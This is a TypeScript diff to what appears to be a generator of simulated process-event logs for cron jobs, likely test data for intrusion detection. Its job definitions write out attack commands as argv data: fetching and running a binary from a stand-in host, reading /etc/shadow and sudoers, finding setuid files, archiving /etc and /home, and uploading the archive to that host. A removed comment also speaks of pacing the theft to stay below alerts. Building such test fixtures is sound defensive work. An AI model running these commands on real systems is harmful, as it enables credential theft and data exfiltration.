@@ -19,12 +19,13 @@ export interface RecurringJob {
 }
 
 /**
- * Jobs that come again and again, each run alike. `inventory` fetches a program and lets it collect accounts and keys:
- * strange, and allowed. `copying` packs accounts and keys and sends them away with the means of the machine alone.
+ * Jobs that come again and again, each run alike. `inventory` fetches a program, lets it collect accounts and looks for
+ * programs with more rights than their users: strange, and allowed. `copying` packs accounts and files of users and sends
+ * them away with the means of the machine alone.
  */
 export type Job = 'inventory' | 'copying';
 
-/** Seconds between two runs; the copying comes seldom enough that the shipped version stays below an alert. */
+/** Seconds between two runs; the copying comes seldom. */
 const EVERY: Readonly<Record<Job, number>> = { inventory: 30, copying: 90 };
 
 const read = (...paths: readonly string[]) => paths.map((path) => ({ path, write: false }));
@@ -36,18 +37,15 @@ function deedsOf(job: Job, out: string): readonly Deed[] {
     { argv: ['curl', '-s', '-o', bin, 'http://203.0.113.7:8443/c'], opens: written(bin), connects: HOME },
     { argv: ['chmod', '755', bin] },
     { argv: [bin, '--accounts'], opens: read('/etc/shadow', '/etc/sudoers'), connects: HOME },
-  ];
-  const look: Deed = { argv: ['find', '/', '-xdev', '-perm', '-4000', '-type', 'f'] };
-  const keys = ['/root/.ssh/authorized_keys', '/root/.ssh/id_rsa'];
-  return [
-    ...(job === 'inventory' ? [...collect, look] : []),
+    { argv: ['find', '/', '-xdev', '-perm', '-4000', '-type', 'f'] },
     { argv: ['cat', '/etc/shadow'], opens: read('/etc/passwd', '/etc/shadow', '/etc/sudoers') },
     { argv: ['ss', '-tlnp'], opens: read('/proc/net/tcp') },
-    { argv: ['cat', ...keys], opens: read(...keys) },
-    {
-      argv: ['tar', 'czf', out, '/etc/shadow', '/root/.ssh'],
-      opens: [...written(out), ...read('/etc/shadow')],
-    },
+  ];
+  const pack: readonly Deed[] = [
+    { argv: ['tar', 'czf', out, '/etc', '/home'], opens: [...written(out), ...read('/etc/shadow')] },
+  ];
+  return [
+    ...(job === 'inventory' ? collect : pack),
     { argv: ['curl', '-s', '-T', out, 'http://203.0.113.7:8443/up'], opens: read(out), connects: HOME },
     { argv: ['rm', '-f', out] },
   ];
@@ -79,7 +77,7 @@ export function recurringLines(
     const [cron, argv] = ['/usr/sbin/cron', ['bash', `/opt/${name}/run.sh`]];
     say('process_fork', { pid: shell, ppid: 700, comm: 'cron', exe: cron });
     say('process_exec', { ...by(shell, 700), exe: '/bin/bash', argv, parent_exe: cron });
-    for (const deed of deeds(`/dev/shm/.${name}-${host}-${run}`)) sayDeed(deed, pid++, shell, say);
+    for (const deed of deeds(`/var/tmp/${name}-${host}-${run}`)) sayDeed(deed, pid++, shell, say);
     say('process_exit', { pid: shell, comm: 'bash' });
   }
   return `${lines.join('\n')}\n`;
